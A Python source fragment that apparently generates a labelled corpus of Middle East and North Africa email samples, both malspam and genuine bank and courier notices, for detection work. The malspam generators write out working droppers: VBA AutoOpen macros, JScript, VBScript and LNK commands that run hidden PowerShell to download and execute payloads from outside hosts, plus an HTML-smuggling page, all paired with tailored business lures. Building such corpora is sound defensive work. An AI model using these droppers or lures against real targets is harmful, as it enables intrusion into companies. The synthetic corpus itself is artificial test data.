               mailfrom=f"purchase@{dom}", seed=stem, dkims=[(dom, "default", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d, h="Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To"),
            f"Received: from [185.244.{int(dg(stem + 'i', 3)) % 250}.{int(dg(stem + 'i2', 3)) % 250}] (port={50000 + int(dg(stem + 'p', 4))} helo=USER-PC)\n"
            f"\tby md-in-79.webhostbox.net with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.97.1)\n"
            f"\t(envelope-from <purchase@{dom}>)\n\tid 1tf{mixed(stem + 'ex', 3)}-00000{AN(stem + 'ex2', 2)}-{AN(stem + 'ex3', 2)}\n"
            f"\tfor {rcpt};\n\t{rfc(d)}",
            f"From: \"Vikram Desai\" <purchase@{dom}>",
            f"To: {rcpt}",
            "Subject: RFQ No. ADC-25-0178 - Supply of Valves and Fittings - Offshore Project",
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 8).upper()}-{hx(stem + 'a', 4).upper()}-{hx(stem + 'b', 4).upper()}@{dom}>",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, alt(stem, txt, html),
                               [attachment("application/x-zip-compressed", "RFQ_ADC-25-0178_Specs.zip", z)]))


@reg("malware-po-iso", "malware",
     "Bilingual 'New Purchase Order' malspam to a Saudi trading company from a look-alike of a known Saudi industrial "
     "group's domain: an ISO disc image holding 'PO_2025_0421.exe'.")
def _m_poiso(stem):
    d = when("2025-04-21T08:52:16+03:00")
    dom = "alfanar-co.com"
    rcpt = "sales@alwaha-trading.com.sa"
    paras = ["Dear Sales Team,",
             "Please find attached our new Purchase Order PO-2025-0421 for the items quoted last week. Kindly confirm the "
             "order, the delivery date to our Riyadh warehouse and send the proforma invoice.",
             "السادة فريق المبيعات، مرفق لكم أمر الشراء رقم PO-2025-0421. نرجو تأكيد الطلب وموعد التسليم.",
             "Best regards,\nFaisal Al-Dosari\nProcurement Department"]
    iso = F.iso_image([("PO_2025_0421.exe", F.pe_stub())], "PO_2025_0421")
    hdr = H(rx("postfix", rcpt=rcpt, d=d, helo=f"mail.{dom}", ip="94.156.177.41", mailfrom=f"procurement@{dom}",
               seed=stem, dkims=[], dmarc=None, hfrom=dom),
            "From: " + addr("Faisal Al-Dosari", f"procurement@{dom}"),
            f"To: {rcpt}",
            "Subject: " + enc("New Purchase Order PO-2025-0421 / أمر شراء جديد"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "X-Mailer: Microsoft Outlook 16.0",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, text(plain(paras), "plain", "base64"),
                               [attachment("application/octet-stream", "PO_2025_0421.iso", iso)]))


@reg("malware-tender-lnk", "malware",
     "Arabic tender invitation (conditions booklet for tender 14/2025) from a compromised services company mailbox "
     "to a UAE contractor: a zip holding a .pdf.lnk shortcut that runs hidden PowerShell to download a second stage.")
def _m_tender(stem):
    d = when("2025-09-02T10:11:40+04:00")
    dom = "alsadd-municipal-services.com"
    rcpt = "tenders@alnoor-contracting.ae"
    lnk = F.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                         "-w hidden -ep bypass -c \"$u='https://cdn.tenderdocs-gov.com/t/14.ps1';"
                         "iex (New-Object Net.WebClient).DownloadString($u)\"")
    z = F.zip_archive([("كراسة_الشروط_والمواصفات_14-2025.pdf.lnk", lnk)])
    paras = ["السادة / شركة النور للمقاولات المحترمين،",
             "تحية طيبة وبعد،",
             "يسرنا دعوتكم للمشاركة في المناقصة رقم 14/2025 الخاصة بأعمال صيانة وتأهيل المباني الإدارية. مرفق لكم كراسة "
             "الشروط والمواصفات وجدول الكميات.",
             "آخر موعد لتقديم العروض: 16/09/2025 الساعة 12:00 ظهراً. يرجى تأكيد الاستلام والرغبة في المشاركة.",
             "وتفضلوا بقبول فائق الاحترام،\nإدارة المشتريات والعقود"]
    html = outlook_html([esc(p).replace("\n", "<br>") for p in paras], rtl=True, lang="AR-SA")
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo=f"mail.{dom}", ip="77.83.36.150", mailfrom=f"procurement@{dom}",
               seed=stem, dkims=[(dom, "default", "pass")], dmarc=("pass", "none"), hfrom=dom),
            dkim(dom, "default", stem, d),
            "From: " + addr("إدارة المشتريات والعقود", f"procurement@{dom}"),
            f"To: {rcpt}",
            "Subject: " + enc("دعوة للمشاركة في المناقصة رقم 14/2025 - كراسة الشروط والمواصفات"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, alt(stem, plain(paras), html, "outlook", "base64"),
                               [attachment("application/x-zip-compressed", "Tender_14-2025_Documents.zip", z)], "outlook"))


@reg("malware-swift-docm", "malware",
     "'SWIFT copy / MT103 payment advice' malspam to an Egyptian pharma company from a look-alike CIB trade-services "
     "domain: a macro-enabled Word document whose AutoOpen macro downloads and runs an executable.")
def _m_swift(stem):
    d = when("2024-10-15T09:27:48+03:00")
    dom = "cibeg-trade.com"
    rcpt = "accounts@deltanile-pharma.com.eg"
    macro = ('Sub AutoOpen()\r\n    Dim s As String\r\n'
             '    s = "powershell -w hidden -c ""(New-Object Net.WebClient).DownloadFile(\'http://91.92.250.14/mt103.exe\','
             '$env:TEMP+\'\\\\mt.exe\');Start-Process ($env:TEMP+\'\\\\mt.exe\')"""\r\n'
             '    CreateObject("WScript.Shell").Run s, 0\r\nEnd Sub\r\n')
    doc = F.docx(["SWIFT MT103 - Single Customer Credit Transfer", "Reference: FT24288" + dg(stem, 6),
                  "Amount: USD 48,250.00", "This document is protected. Click Enable Content to view the payment details."],
                 "MT103", "CIB Trade Services", macro=macro)
    paras = ["Dear Sir,",
             "Please find attached the SWIFT copy (MT103) for the payment of USD 48,250.00 released today in favour of "
             "your company against invoice DNP/EXP/24/0917.",
             "Kindly check with your bank and confirm receipt.",
             "Regards,\nTrade Services Department\nCommercial International Bank (Egypt) S.A.E."]
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo=f"mx1.{dom}", ip="91.92.250.14", mailfrom=f"tradeservices@{dom}",
               seed=stem, dkims=[], dmarc=None, hfrom=dom),
            f"From: CIB Trade Services <tradeservices@{dom}>",
            f"To: {rcpt}",
            "Subject: SWIFT Copy - Payment USD 48,250.00 - Ref FT24288" + dg(stem, 6),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, text(plain(paras, 76), "plain", "7bit"),
                               [attachment("application/vnd.ms-word.document.macroEnabled.12",
                                           f"SWIFT_MT103_FT24288{dg(stem, 6)}.docm", doc)]))


@reg("malware-html-smuggling", "malware",
     "Aramex 'shipping documents / AWB' malspam to a UAE trading company with an HTML attachment that smuggles an "
     "embedded base64 zip (holding a JScript downloader) and saves it through a Blob download on open.")
def _m_smuggle(stem):
    d = when("2025-11-18T06:40:02+00:00")
    dom = "aramex-docs.com"
    rcpt = "logistics@gulfstar-trading.ae"
    js = ('var s=new ActiveXObject("WScript.Shell");\r\n'
          's.Run("powershell -w hidden -c iwr https://aramex-docs.com/d/awb.ps1 -UseBasicParsing|iex",0);\r\n').encode()
    blob = base64.b64encode(F.zip_archive([("AWB_Shipping_Documents.js", js)])).decode()
    blob_lines = "\n".join(f'"{blob[i:i + 76]}"+' for i in range(0, len(blob), 76)) + '""'
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Aramex - Shipping Documents</title></head>
<body style="font-family:Arial;text-align:center;padding-top:80px;">
<h3>Aramex Document Viewer</h3><p>Your documents are being prepared for download...</p>
<script>
var d={blob_lines};
function b(x){{var r=atob(x),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a}}
var f=new Blob([b(d)],{{type:"application/octet-stream"}}),n="AWB_Shipping_Documents.zip";
if(window.navigator.msSaveOrOpenBlob){{window.navigator.msSaveOrOpenBlob(f,n)}}else{{var l=document.createElement("a");
l.href=URL.createObjectURL(f);l.download=n;document.body.appendChild(l);l.click()}}
</script></body></html>
"""
    paras = ["Dear Customer,",
             "Your shipment AWB 3401877265 has arrived at Dubai hub. The shipping documents (commercial invoice, AWB and "
             "customs declaration) are attached. Please open the attachment in your browser, review and confirm the "
             "consignee details to avoid storage charges.",
             "Regards,\nAramex Documentation Team"]
    att = Leaf("text/html", page.encode(), "base64", '; charset="utf-8"; name="AWB_3401877265_Documents.html"',
               'attachment; filename="AWB_3401877265_Documents.html"')
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo=f"mail.{dom}", ip="45.95.169.121", mailfrom=f"documents@{dom}",
               seed=stem, dkims=[(dom, "dkim", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "dkim", stem, d),
            f"From: Aramex Documentation <documents@{dom}>",
            f"To: {rcpt}",
            "Subject: Shipping Documents - AWB 3401877265 - Consignee confirmation required",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, text(plain(paras, 76), "plain", "7bit"), [att]))


@reg("malware-facture-docm", "malware",
     "French 'facture proforma / règlement' malspam to a Moroccan agri-food company from a compromised Moroccan "
     "distributor's OVH mailbox: a macro-enabled .docm whose AutoOpen macro fetches and runs a payload.")
def _m_facture(stem):
    d = when("2025-01-28T10:36:09+01:00")
    dom = "distrimaroc-sarl.ma"
    rcpt = "achats@atlas-agro.ma"
    macro = ('Sub AutoOpen()\r\n    Dim x As Object\r\n    Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
             '    x.Open "GET", "http://185.196.8.77/fp/update.exe", False\r\n    x.Send\r\n'
             '    Dim st As Object: Set st = CreateObject("ADODB.Stream")\r\n'
             '    st.Type = 1: st.Open: st.Write x.responseBody\r\n'
             '    st.SaveToFile Environ("TEMP") & "\\fp.exe", 2\r\n'
             '    Shell Environ("TEMP") & "\\fp.exe", 0\r\nEnd Sub\r\n')
    doc = F.docx(["FACTURE PROFORMA N° FP-2025-0112", "Document protégé - Activez le contenu pour afficher la facture."],
                 "Facture proforma", "Comptabilite", macro=macro)
    paras = ["Bonjour,",
             "Veuillez trouver ci-joint la facture proforma N° FP-2025-0112 relative à votre commande de janvier.",
             "Merci de procéder au règlement avant le 31/01/2025 et de nous transmettre l'avis de virement.",
             "Cordialement,\nService Comptabilité\nDistri Maroc SARL - Casablanca"]
    hdr = H(rx("postfix", rcpt=rcpt, d=d, helo=f"mo{dg(stem + 'mo', 3)}.mail-out.ovh.net", ip="178.33.109.112",
               mailfrom=f"comptabilite@{dom}", seed=stem, dkims=[(dom, "ovhmo-selector-1", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "ovhmo-selector-1", stem, d),
            f"From: Comptabilite Distri Maroc <comptabilite@{dom}>",
            f"To: {rcpt}",
            "Subject: " + enc("Facture proforma N° FP-2025-0112 - Règlement"),
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 32)}@{dom}>",
            f"X-Ovh-Tracer-Id: {dg(stem + 'tr', 19)}",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, text(plain(paras, 76), "plain", "quoted-printable"),
                               [attachment("application/vnd.ms-word.document.macroEnabled.12", "Facture_Proforma_FP-2025-0112.docm", doc)]))


@reg("malware-bl-gz-exe", "malware",
     "'Draft Bill of Lading, please confirm' shipping malspam to a UAE contractor's logistics desk from a compromised "
     "freight forwarder: a gzip archive holding a Windows executable named after the B/L.")
def _m_bl(stem):
    d = when("2025-06-09T09:04:55+04:00")
    dom = "seastar-shipping.ae"
    rcpt = "logistics@alnoor-contracting.ae"
    gz = F.gzip_bytes("BL_Draft_MAEU241187650.exe", F.pe_stub())
    paras = ["Dear Sir,",
             "Good morning.",
             "Please find attached the draft B/L for your shipment MAEU241187650 (2x40HC, Nhava Sheva - Jebel Ali), vessel "
             "MAERSK KENSINGTON V.524W. Kindly check the shipper/consignee details and confirm today so we can release the "
             "final B/L before the vessel's cut-off.",
             "Best regards,\nJoseph D'Souza\nCustomer Service - Import\nSea Star Shipping LLC, Dubai"]
    html = outlook_html([esc(p).replace("\n", "<br>") for p in paras])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo="EUR01-HE1-obe.outbound.protection.outlook.com", ip="40.107.13.55",
               rdns="mail-he1eur01on2055.outbound.protection.outlook.com", mailfrom=f"cs.import@{dom}", seed=stem,
               dkims=[(dom, "selector1", "pass")], dmarc=("pass", "none"), hfrom=dom),
            "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + wrap_b64(b64(stem + "as", 344), " ", 72),
            dkim(dom, "selector1", stem, d, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: Joseph D'Souza <cs.import@{dom}>",
            f"To: {rcpt}",
            "Subject: DRAFT B/L MAEU241187650 - PLS CONFIRM URGENT",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('outlook', stem, 'eurprd01')}",
            "Accept-Language: en-US",
            "Content-Language: en-US",
            "X-MS-Has-Attach: yes",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, alt(stem, plain(paras), html, "outlook"),
                               [attachment("application/x-gzip", "BL_Draft_MAEU241187650.gz", gz)], "outlook"))


@reg("malware-zatca-js", "malware",
     "Arabic 'ZATCA tax violation notice' malspam to a Saudi food company from a look-alike government domain: a zip "
     "holding a JScript file that launches a PowerShell downloader.")
def _m_zatcajs(stem):
    d = when("2025-12-09T07:22:31+00:00")
    dom = "zatca-gov-sa.com"
    rcpt = "accounts@najd-foods.com.sa"
    js = ('// ZATCA notice viewer\r\nvar sh = new ActiveXObject("WScript.Shell");\r\n'
          'var p = "powershell -nop -w hidden -c \\"iwr https://zatca-gov-sa.com/api/v2/n.ps1 -UseBasicParsing | iex\\"";\r\n'
          'sh.Run(p, 0, false);\r\n').encode()
    z = F.zip_archive([("اشعار_مخالفة_ضريبية_ZATCA.js", js)])
    html = brand_html(
        title="إشعار مخالفة ضريبية", brand="هيئة الزكاة والضريبة والجمارك", color="#00665e", rtl=True, lang="ar",
        paras=["السادة المكلفين المحترمين،",
               "نفيدكم بأنه تم رصد مخالفة تتعلق بعدم الالتزام بمتطلبات الفوترة الإلكترونية لدى منشأتكم، وقد تم إصدار إشعار "
               "مخالفة بغرامة قدرها <b>25,000 ريال</b>.",
               "مرفق لكم تفاصيل الإشعار. يحق لكم الاعتراض خلال 30 يوماً من تاريخه."],
        footer=["هيئة الزكاة والضريبة والجمارك"])
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo=f"mail.{dom}", ip="87.120.116.38", mailfrom=f"notice@{dom}",
               seed=stem, dkims=[], dmarc=None, hfrom=dom),
            "From: " + addr("هيئة الزكاة والضريبة والجمارك", f"notice@{dom}"),
            f"To: {rcpt}",
            "Subject: " + enc("إشعار مخالفة ضريبية رقم " + dg(stem, 9)),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, text(html, "html", "base64"),
                               [attachment("application/zip", f"ZATCA_Notice_{dg(stem, 9)}.zip", z)]))


@reg("malware-knpc-vbs", "malware",
     "'KNPC vendor registration renewal' malspam to a Kuwaiti petroleum-services company from a look-alike domain: a "
     "zip holding a VBScript 'registration form' that downloads and starts an executable.")
def _m_knpc(stem):
    d = when("2025-03-11T08:15:44+03:00")
    dom = "knpc-kw.com"
    rcpt = "contracts@kw-petroservices.com"
    vbs = ('Set o = CreateObject("MSXML2.ServerXMLHTTP")\r\n'
           'o.Open "GET", "http://knpc-kw.com/vr/form.exe", False\r\no.Send\r\n'
           'Set s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write o.ResponseBody\r\n'
           'p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\\vr.exe"\r\n'
           's.SaveToFile p, 2\r\nCreateObject("WScript.Shell").Run p, 0\r\n').encode()
    z = F.zip_archive([("KNPC_Vendor_Registration_Form_2025.vbs", vbs)])
    paras = ["Dear Valued Vendor,",
             "As part of the annual vendor pre-qualification review, all registered suppliers and contractors of Kuwait "
             "National Petroleum Company are required to renew their registration before 20 March 2025.",
             "Please fill in the attached Vendor Registration Form and return it with your commercial licence. Vendors who "
             "do not renew will be suspended from upcoming tenders.",
             "Regards,\nVendor Registration Unit\nSupply Chain Management Group"]
    hdr = H(rx("m365", rcpt=rcpt, d=d, helo=f"mail.{dom}", ip="194.169.175.92", mailfrom=f"vendors@{dom}",
               seed=stem, dkims=[(dom, "mail", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "mail", stem, d),
            f"From: KNPC Vendor Registration <vendors@{dom}>",
            f"To: {rcpt}",
            "Subject: KNPC Vendor Registration Renewal 2025 - Required Documents",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, mixed_(stem, text(plain(paras, 76), "plain", "7bit"),
                               [attachment("application/zip", "KNPC_Vendor_Registration_2025.zip", z)]))


@reg("malware-virement-scr", "malware",
     "French 'avis de virement BIAT' malspam to a Tunisian logistics company from a compromised Tunisian mailbox: a zip "
     "holding a screensaver executable named 'Avis_de_virement_BIAT_0107.pdf.scr'.")
def _m_virement(stem):
    d = when("2025-07-01T11:48:20+01:00")
    dom = "sotradis.com.tn"
    rcpt = "finance@carthage-logistique.tn"
    z = F.zip_archive([("Avis_de_virement_BIAT_0107.pdf.scr", F.pe_stub())])
    paras = ["Bonjour,",
             "Suite à votre demande, veuillez trouver ci-joint l'avis de virement BIAT correspondant au règlement de vos "
             "factures du mois de juin.",
             "Merci de confirmer la réception des fonds.",
             "Cordialement,\nNadia Ben Salah\nService Financier - SOTRADIS"]
    hdr = H(rx("postfix", rcpt=rcpt, d=d, helo=f"webmail.{dom}", ip="197.14.52.180", mailfrom=f"n.bensalah@{dom}",
               seed=stem, dkims=[], dmarc=None, hfrom=dom),
            f"From: Nadia Ben Salah <n.bensalah@{dom}>",
            f"To: {rcpt}",
            "Subject: Avis de virement BIAT - factures juin 2025",
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 32)}@{dom}>",
            "User-Agent: Roundcube Webmail/1.6.6",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, text(plain(paras, 76), "plain", "quoted-printable"),
                               [attachment("application/zip", "Avis_de_virement_BIAT_0107.zip", z)]))


# =========================================================================== legitimate

@reg("legit-enbd-estatement", "bulk",
     "Genuine Emirates NBD monthly e-statement notification (English/Arabic) from the bank's own domain with aligned "
     "DKIM/DMARC, the password-protected statement PDF attached and a 'we never ask for your OTP' reminder.")
def _l_enbd(stem):
    d = when("2025-04-02T03:12:40+04:00")
    rcpt = "ahmed.alshamsi87@gmail.com"
    paras = ["Dear AHMED ALSHAMSI,",
             "Please find attached your Emirates NBD account statement for account number XXXXXXXX1043 for the period "
             "01/03/2025 to 31/03/2025.",
             "The attachment is password protected. Please enter your date of birth in DDMMYYYY format to open it.",
             "Emirates NBD will never ask for your password, PIN or OTP by email, SMS or phone.",
             '<div dir="rtl" style="text-align:right;">عزيزنا العميل، مرفق كشف حسابكم للفترة من 01/03/2025 إلى 31/03/2025. '
             "الملف محمي بكلمة مرور وهي تاريخ ميلادكم بصيغة DDMMYYYY.</div>"]
    html = brand_html(title="Your account statement", brand="Emirates NBD", color="#072b61", paras=paras,
                      footer=["Emirates NBD Bank (P.J.S.C.), P.O. Box 777, Dubai, UAE. Licensed by the Central Bank of the UAE.",
                              "This is a system-generated email. Please do not reply.",
                              'For assistance call 600 54 0000 or visit <a href="https://www.emiratesnbd.com/en/contact-us">emiratesnbd.com</a>'])
    txt = plain(["Dear AHMED ALSHAMSI,",
                 "Please find attached your Emirates NBD account statement for account number XXXXXXXX1043 for the period "
                 "01/03/2025 to 31/03/2025.",
                 "The attachment is password protected. Please enter your date of birth in DDMMYYYY format to open it.",
                 "Emirates NBD will never ask for your password, PIN or OTP by email, SMS or phone.",
                 "Emirates NBD Bank (P.J.S.C.), P.O. Box 777, Dubai, UAE."], 76)
    st = F.pdf(["Emirates NBD Bank PJSC - Account Statement", "Account: XXXXXXXX1043   Currency: AED",
                "Period: 01/03/2025 - 31/03/2025", "Opening balance: 18,442.17", "Total credits: 24,500.00",
                "Total debits: 21,918.64", "Closing balance: 21,023.53"], title="Account Statement")
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="mta3.emiratesnbd.com", ip="194.170.186.73", mailfrom="estatements@emiratesnbd.com",
               seed=stem, dkims=[("emiratesnbd.com", "enbd2023", "pass")], dmarc=("pass", "reject"), hfrom="emiratesnbd.com"),
            dkim("emiratesnbd.com", "enbd2023", stem, d),
            f"Date: {rfc(d)}",
            "From: Emirates NBD <estatements@emiratesnbd.com>",
            f"To: {rcpt}",
            f"Message-ID: {mid('java', stem, 'emiratesnbd.com')}",
            "Subject: Your Emirates NBD Account Statement - March 2025",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, alt(stem, txt, html, "sfmc"),
                               [attachment("application/pdf", "Statement_XXXX1043_Mar2025.pdf", st)], "sfmc"))


@reg("legit-alrajhi-login-alert", "bulk",
     "Genuine Arabic Al Rajhi Bank new-device sign-in alert from alrajhibank.com.sa (DKIM/DMARC pass): device and time "
     "details and the 920003344 call-centre number, no links to sign in.")
def _l_rajhi(stem):
    d = when("2025-06-04T22:41:09+03:00")
    rcpt = "sultan.alotaibi@outlook.sa"
    html = brand_html(
        title="تنبيه تسجيل دخول", brand="مصرف الراجحي", color="#1a3e8c", rtl=True, lang="ar",
        paras=["عميلنا العزيز سلطان،",
               "تم تسجيل الدخول إلى تطبيق الراجحي موبايل من جهاز جديد:",
               "الجهاز: iPhone 15 Pro<br />التاريخ: 04/06/2025 الساعة 10:40 مساءً<br />الموقع التقريبي: الرياض",
               "إذا كنت أنت من قام بهذه العملية فلا داعي لأي إجراء. وإذا لم تقم بها، يرجى الاتصال فوراً بخدمة العملاء "
               "على الرقم 920003344 لإيقاف الخدمات.",
               "تذكير: مصرف الراجحي لا يطلب منك أبداً رمز التحقق أو كلمة المرور عبر الهاتف أو الرسائل أو البريد الإلكتروني."],
        footer=["مصرف الراجحي - شركة مساهمة سعودية - خاضع لرقابة وإشراف البنك المركزي السعودي",
                '<a href="https://www.alrajhibank.com.sa">www.alrajhibank.com.sa</a>'])
    txt = plain(["عميلنا العزيز سلطان،", "تم تسجيل الدخول إلى تطبيق الراجحي موبايل من جهاز جديد: iPhone 15 Pro بتاريخ 04/06/2025 الساعة 10:40 مساءً.",
                 "إذا لم تقم بهذه العملية يرجى الاتصال فوراً بخدمة العملاء على الرقم 920003344.", "مصرف الراجحي"])
    hdr = H(rx("outlookcom", rcpt=rcpt, d=d, helo="smtp2.alrajhibank.com.sa", ip="213.184.160.77",
               mailfrom="alerts@alrajhibank.com.sa", seed=stem, dkims=[("alrajhibank.com.sa", "s2048", "pass")],
               dmarc=("pass", "reject"), hfrom="alrajhibank.com.sa"),
            dkim("alrajhibank.com.sa", "s2048", stem, d),
            "From: " + addr("مصرف الراجحي", "alerts@alrajhibank.com.sa"),
            f"To: {rcpt}",
            "Subject: " + enc("تنبيه: تسجيل دخول من جهاز جديد"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'alrajhibank.com.sa')}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, alt(stem, txt, html, "sfmc", "base64"))


@reg("legit-cib-card-alert", "bulk",
     "Genuine CIB Egypt card transaction alert (English/Arabic) from cibeg.com to a Yahoo user: purchase amount, "
     "merchant and available limit, with the 19666 hotline and no links.")
def _l_cib(stem):
    d = when("2025-05-17T19:08:22+03:00")
    rcpt = "omar_farouk77@yahoo.com"
    paras = ["Dear Customer,",
             "Your CIB credit card ending with 7731 was used for a purchase of EGP 2,485.50 at CARREFOUR MAADI CITY "
             "CENTRE on 17/05/2025 19:07.",
             "Available limit: EGP 41,270.15",
             "If you did not make this transaction please call 19666 immediately.",
             '<div dir="rtl" style="text-align:right;">عميلنا العزيز، تم استخدام بطاقتكم الائتمانية المنتهية بـ 7731 في عملية شراء '
             "بقيمة 2,485.50 جنيه لدى كارفور معادي سيتي سنتر. في حال عدم قيامكم بهذه العملية يرجى الاتصال بـ 19666.</div>"]
    html = brand_html(title="Card transaction alert", brand="CIB", color="#003c71", paras=paras,
                      footer=["Commercial International Bank (Egypt) S.A.E.", "This is an automated message, please do not reply."])
    txt = plain([p for p in paras[:4]] + ["Commercial International Bank (Egypt) S.A.E."], 76)
    hdr = H(rx("yahoo", rcpt=rcpt, d=d, helo="alerts.cibeg.com", ip="41.33.146.24", mailfrom="cib.alerts@cibeg.com",
               seed=stem, dkims=[("cibeg.com", "alerts", "pass")], dmarc=("pass", "quarantine"), hfrom="cibeg.com"),
            dkim("cibeg.com", "alerts", stem, d),
            "From: CIB <cib.alerts@cibeg.com>",
            f"To: {rcpt}",
            "Subject: CIB Credit Card Transaction Alert",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'cibeg.com')}",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html, "sfmc"))


@reg("legit-attijari-releve", "bulk",
     "Genuine French Attijariwafa bank notice that the monthly statement is available in Attijarinet, from the bank's "
     "domain with DKIM/DMARC pass; links only to the bank's own site.")
def _l_attijari(stem):
    d = when("2024-12-03T08:02:11+01:00")
    rcpt = "yasmine.benali@gmail.com"
    paras = ["Chère Madame BENALI,",
             "Nous vous informons que votre relevé de compte du mois de <b>novembre 2024</b> est disponible dans votre "
             "espace Attijarinet, rubrique « Mes relevés ».",
             "Pour le consulter, connectez-vous à Attijarinet depuis l'application Attijari Mobile ou depuis notre site "
             "www.attijariwafabank.com.",
             "Attijariwafa bank ne vous demandera jamais vos codes d'accès ou le code reçu par SMS par e-mail ou par téléphone."]
    html = brand_html(title="Votre relevé est disponible", brand="Attijariwafa bank", color="#f39200", paras=paras, lang="fr",
                      footer=['Attijariwafa bank - <a href="https://www.attijariwafabank.com">www.attijariwafabank.com</a>',
                              "Centre de relation clients : 05 22 58 88 55", "Merci de ne pas répondre à ce message."])
    txt = plain([p.replace("<b>", "").replace("</b>", "") for p in paras] + ["Attijariwafa bank - www.attijariwafabank.com"], 76)
    hdr = H(rx("gmail", rcpt=rcpt, d=d, helo="mailout2.attijariwafa.net.ma", ip="196.200.131.42",
               mailfrom="no-reply@attijariwafabank.com", seed=stem, dkims=[("attijariwafabank.com", "awb1", "pass")],
               dmarc=("pass", "quarantine"), hfrom="attijariwafabank.com"),
            dkim("attijariwafabank.com", "awb1", stem, d),
            "From: Attijariwafa bank <no-reply@attijariwafabank.com>",
            f"To: {rcpt}",
            "Subject: " + enc("Votre relevé de compte de novembre 2024 est disponible"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'attijariwafabank.com')}",
            "MIME-Version: 1.0")
    return message(hdr, alt(stem, txt, html, "sfmc"))


@reg("legit-emiratespost-tracking", "bulk",
     "Genuine Emirates Post 'your item is out for delivery' notification (English/Arabic) from emiratespost.ae with "
     "tracking link to the official site and a warning that Emirates Post does not request fees by SMS links.")
def _l_epost(stem):
    d = when("2025-03-05T09:14:51+04:00")
    rcpt = "fatima_alzaabi@hotmail.com"
    trk = f"RR{dg(stem, 9)}CN"
    link = f"https://www.emiratespost.ae/en/track-and-trace?TrackingNumber={trk}"
    html = brand_html(
        title="Your item is out for delivery | شحنتك في الطريق إليك", brand="Emirates Post", color="#c8102e",
        paras=[f"Tracking number: <b>{trk}</b>", "Your item is out for delivery today and will be delivered to your "
               "registered address in Al Barsha, Dubai between 10:00 and 18:00.",
               '<div dir="rtl" style="text-align:right;">شحنتك في الطريق إليك اليوم وسيتم تسليمها إلى عنوانك المسجل.</div>',
               "Please note: Emirates Post never asks you to pay fees through links sent by SMS or email from unknown senders."],
        button=("Track your item", link),
        footer=["Emirates Post Group", '<a href="https://www.emiratespost.ae/en/privacy-policy">Privacy Policy</a>'])
    txt = plain([f"Tracking number: {trk}", "Your item is out for delivery today.", f"Track your item: {link}",
                 "Emirates Post never asks you to pay fees through links sent by SMS or email from unknown senders."])
    hdr = H(rx("outlookcom", rcpt=rcpt, d=d, helo="mailer.emiratespost.ae", ip="94.56.130.21", mailfrom="noreply@emiratespost.ae",
               seed=stem, dkims=[("emiratespost.ae", "ep1", "pass")], dmarc=("pass", "reject"), hfrom="emiratespost.ae"),
            dkim("emiratespost.ae", "ep1", stem, d),
            "From: Emirates Post <noreply@emiratespost.ae>",
            f"To: {rcpt}",
            "Subject: " + enc(f"Your item {trk} is out for delivery | شحنتك في الطريق"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('java', stem, 'emiratespost.ae')}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, alt(stem, txt, html, "sfmc"))


@reg("legit-aramex-cod", "bulk",
     "Genuine Aramex delivery notification for a SHEIN order with cash-on-delivery amount and an optional pay-online "
     "link, sent through SendGrid with aramex.com DKIM and branded click tracking.")
def _l_aramex(stem):
    d = when("2025-01-08T10:30:05+03:00")
    rcpt = "noura.alqahtani@gmail.com"
    awb = "34901288" + dg(stem, 3)
    link = f"https://url8824.aramex.com/ls/click?upn=u001.{mixed(stem + 'l', 110)}"
